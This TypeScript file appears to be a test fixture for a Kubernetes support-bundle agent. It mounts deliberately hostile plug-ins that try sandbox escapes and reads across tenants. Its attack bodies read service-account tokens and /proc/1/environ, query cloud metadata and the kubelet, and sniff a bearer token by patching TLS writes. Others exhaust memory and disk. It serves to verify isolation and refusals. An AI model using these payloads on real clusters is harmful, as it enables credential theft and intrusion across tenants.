import { AGENT_NAMESPACE } from '../../core/names.ts'
import type { Additions } from './installed.ts'

/**
 * A collector and an uploader, both `hostile`, that an administrator mounted by mistake: each does the attack that an entry, or a
 * target, names. What it gets hold of becomes a file `loot/…`, or the place that a bundle was uploaded to; what it fails with is
 * thrown, as that of any plug-in.
 */

/** By name the body of an async function of `given`, the rest of the config, and `context`. */
export const ATTACKS: Record<string, string> = {
  'read the token of the agent': `return fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8')`,
  'read the settings of the agent': `return fs.readFileSync('/etc/support-bundle-schedule/config.yaml', 'utf8')`,
  'read what the runner obeys': `return fs.readFileSync('/var/lib/support-bundle-schedule/runner-secret', 'utf8')`,
  'list the folder of the agent': `return fs.readdirSync('/var/lib/support-bundle-schedule')`,
  'list processes': `return fs.readdirSync('/proc')`,
  'read the environment of the runner': `return fs.readFileSync('/proc/1/environ', 'utf8')`,
  'read through the root of the runner': `return fs.readFileSync('/proc/1/root' + given.bundle)`,
  'read a bundle of another tenant': `return fs.readFileSync(given.bundle)`,
  'read it by a way up from its own folder': `return fs.readFileSync(own(context) + '/../../../../..' + given.bundle)`,
  'link to it': `fs.symlinkSync(given.bundle, own(context) + '/link'); return fs.readFileSync(own(context) + '/link')`,
  'link to it without a link': `fs.linkSync(given.bundle, own(context) + '/link'); return fs.readFileSync(own(context) + '/link')`,
  'list the folders of tenants': `return fs.readdirSync('/work/namespaces')`,
  'write to the folder of another tenant': `return fs.writeFileSync(given.bundle + '.new', 'x')`,
  'write to the program': `return fs.writeFileSync('/app/lib/task.js', 'x')`,
  'start a process': `return load('child_process').execFileSync(process.execPath, ['--version'])`,
  'start a thread with rights of its own': `const { Worker } = load('worker_threads')
    return new Worker('1', { eval: true, execArgv: ['--allow-fs-read=*', '--allow-child-process'] }).threadId`,
  'load an add-on': `fs.writeFileSync(own(context) + '/x.node', 'x'); return process.dlopen({ exports: {} }, own(context) + '/x.node')`,
  'open a debugger': `load('inspector').open(0); return load('inspector').url()`,
  'use inner bindings': `return Object.keys(process.binding('fs'))`,
  'ask the runner for a task': `return ask({ path: '/run/support-bundle-schedule/runner.sock' })`,
  'ask for metadata': `return (await fetch('http://169.254.169.254/latest/meta-data/')).text()`,
  'ask for metadata by another writing': `return ask({ host: '::ffff:169.254.169.254', port: 80 })`,
  'ask the API of the agent': `return (await fetch('http://127.0.0.1:8080/api/v1/agent')).text()`,
  'ask for the metrics of the agent': `return (await fetch('http://localhost:9090/metrics')).text()`,
  'ask a pod of another tenant': `return (await fetch('http://' + given.pod + ':8080/')).text()`,
  'ask the kubelet': `return ask({ host: given.node, port: 10250 })`,
  'ask the API server at another address': `return ask({ host: given.node, port: 6443 })`,
  'ask the API server as nobody': `return api(given, 'GET', '/api/v1/namespaces/' + given.victim + '/configmaps')`,
  'find something in its environment': `
    const known = ['MALLOC_ARENA_MAX', 'MALLOC_TRIM_THRESHOLD_', 'NODE_OPTIONS', 'SUPPORT_BUNDLE_SCHEDULE_TASK', 'AWS_EC2_METADATA_DISABLED']
    const found = Object.keys(process.env).filter((name) => !known.includes(name))
    if (found.length > 0) return found
    throw new Error('EMPTY')`,
}
/** Of those above, what the host's own answer to each is. */
export const REFUSAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ADDRESS_REFUSED|answered 40[13]|EMPTY)$/

/** Others, which are not refused at once; each in a run of its own. */
const OTHERS: Record<string, string> = {
  'use its token': `
    const token = await caught(context)
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url'))
    const of = (review, spec) => api(given, 'POST', '/apis/' + review, { spec }, token).then(JSON.parse)
    const { status: rules } = await of('authorization.k8s.io/v1/selfsubjectrulesreviews', { namespace: context.run.namespace })
    const { status: self } = await of('authentication.k8s.io/v1/selfsubjectreviews', {})
    const answers = []
    for (const [method, path, body] of given.requests)
      answers.push(await api(given, method, path, body, token).catch((error) => error.message))
    return JSON.stringify({ user: self.userInfo.username, seconds: claims.exp - claims.iat, rules: rules.resourceRules, answers })`,
  'name the bundle of another as its own': `
    const archive = { path: given.bundle, fileName: 'x.tar.gz', bytes: 1, sha256: '', files: 1, isPartial: false }
    const result = { archive, collectors: { ran: 1, failed: 0, skipped: 0 }, warnings: 0, redactions: 0, cpuMs: 0 }
    fs.writeSync(3, JSON.stringify({ type: 'done', result }) + '\\n')
    return wait(3_000)`,
  'leak Buffers': `
    const held = []
    for (;;) { held.push(Buffer.alloc(8 * 2 ** 20, 1)); if (held.length % 4 === 0) await wait(given.pauseMs) }`,
  'leak Buffers without a pause': `const held = []; for (;;) held.push(Buffer.alloc(16 * 2 ** 20, 1))`,
  wait: `return wait(given.ms)`,
  'fill the disk': `
    const chunk = Buffer.alloc(2 ** 20, 1)
    try { for (;;) { fs.appendFileSync(own(context) + '/large', chunk); await wait(0) } }
    catch (error) { await wait(given.ms); throw error }`,
  'fill the bundle': `return async function* () { for (;;) yield load('crypto').randomBytes(2 ** 20) }`,
  'list pods for a while': `
    const target = { version: 'v1', plural: 'pods', namespaces: [context.run.namespace] }
    for (let left = given.ms; left > 0; left -= 250) {
      for await (const { failure } of context.kube.list(target)) if (failure) throw failure
      await wait(250)
    }
    return 'all was well'`,
}

const COMMON = `
const load = (name) => process.getBuiltinModule('node:' + name)
const [fs, net, http, https] = ['fs', 'net', 'http', 'https'].map(load)
const own = ({ run }) => '/work/namespaces/' + run.namespace + '/work/' + run.id
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const ask = (where) => new Promise((resolve, reject) => {
  const socket = net.connect(where, () => (socket.destroy(), resolve('connected'))).on('error', reject)
})
const api = ({ server }, method, path, body, token) => new Promise((resolve, reject) => {
  const headers = { ...(body ? { 'content-type': 'application/json' } : {}), ...(token ? { authorization: 'Bearer ' + token } : {}) }
  const asked = https.request(server + path, { method, headers, rejectUnauthorized: false, agent: false }, async (answer) => {
    const text = Buffer.concat(await Array.fromAsync(answer)).toString()
    if (answer.statusCode < 300) resolve(text)
    else reject(new Error('answered ' + answer.statusCode))
  })
  asked.on('error', reject).end(body && JSON.stringify(body))
})
// The token of the run is not handed to plug-ins, but they share a process with what sends it.
async function caught(context) {
  const { prototype } = load('tls').TLSSocket
  const { write } = prototype
  let text = ''
  prototype.write = function (data, ...rest) {
    text += Buffer.from(data).toString('latin1')
    return write.call(this, data, ...rest)
  }
  try {
    for await (const _ of context.kube.list({ version: 'v1', plural: 'pods', namespaces: [context.run.namespace] })) break
  } finally {
    delete prototype.write
  }
  return /Bearer ([\\w.-]+)/.exec(text)[1]
}
const codeOf = (error) => error.cause?.code ?? error.code ?? error.message
const attacks = {
${Object.entries({ ...ATTACKS, ...OTHERS })
  .map(([name, body]) => `${JSON.stringify(name)}: async (given, context) => {${body}},`)
  .join('\n')}
}
const common = { apiVersion: 'support-bundle-schedule/v1', name: 'hostile', version: '1.0.0', summary: 'of a test' }
const configSchema = { '~standard': { version: 1, vendor: 'test', validate: (value) => ({ value }) } }
`

const COLLECTOR = `${COMMON}
export default {
  manifest: {
    ...common, kind: 'Collector', specKey: 'hostile', outputs: ['loot'],
    permissions: [{ apiGroups: [''], resources: ['pods'], verbs: ['list'] }],
  },
  configSchema,
  async *collect(context) {
    const { attack, ...given } = context.config
    let loot
    try { loot = await attacks[attack](given, context) } catch (error) { throw new Error(attack + ': ' + codeOf(error)) }
    yield { type: 'file', path: 'loot/' + attack + '.txt', format: 'text', body: typeof loot === 'function' ? loot : String(loot) }
  },
}
`

const UPLOADER = `${COMMON}
export default {
  manifest: { ...common, kind: 'Uploader', schemes: ['hostile'], secretKeys: [] },
  configSchema,
  async upload(context) {
    const failed = []
    for (const attack of context.config.attacks) {
      const loot = await attacks[attack](context.config, context).catch((error) => void failed.push(attack + ': ' + codeOf(error)))
      if (loot !== undefined) failed.push(attack + ': LOOT')
    }
    throw new Error(failed.join('; '))
  },
}
`

const FILES = [
  { key: 'collector.js', path: 'collectors/hostile/index.js', module: COLLECTOR },
  { key: 'uploader.js', path: 'uploaders/hostile/index.js', module: UPLOADER },
]

/** Mounts both at /plugins of the runner's container. */
export function hostilePlugins(): Additions {
  const name = 'plugins'
  const configMap = { name, items: FILES.map(({ key, path }) => ({ key, path })) }
  return {
    resources: [
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name, namespace: AGENT_NAMESPACE },
        data: Object.fromEntries(FILES.map(({ key, module }) => [key, module])),
      },
    ],
    deployment: [
      { op: 'add', path: '/spec/template/spec/volumes/-', value: { name, configMap } },
      {
        op: 'add',
        path: '/spec/template/spec/containers/1/volumeMounts/-',
        value: { name, mountPath: '/plugins', readOnly: true },
      },
      ...['--plugins', '/plugins'].map((value) => ({ op: 'add', path: '/spec/template/spec/containers/0/args/-', value })),
    ],
  }
}
